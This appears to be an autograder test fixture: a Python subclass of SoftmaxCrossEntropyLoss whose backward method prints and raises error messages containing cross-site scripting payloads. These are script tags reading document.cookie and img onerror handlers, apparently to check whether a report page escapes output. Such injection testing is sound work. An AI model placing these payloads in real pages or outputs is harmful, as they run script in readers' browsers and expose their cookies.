# score: 3 of 4
# loses: loss_backward
# ends: raised
# says: raised ValueError at mlp.py:{line} in SoftmaxCrossEntropyLoss.backward: </pre></td><script>alert(document.cookie)</script><img src='//127.0.0.1/x' onerror=alert(1)>
class SoftmaxCrossEntropyLoss(SoftmaxCrossEntropyLoss):
    def backward(self):
        print("<img src=x onerror=alert(1)>")
        raise ValueError("</pre></td><script>alert(document.cookie)</script><img src='//127.0.0.1/x' onerror=alert(1)>")
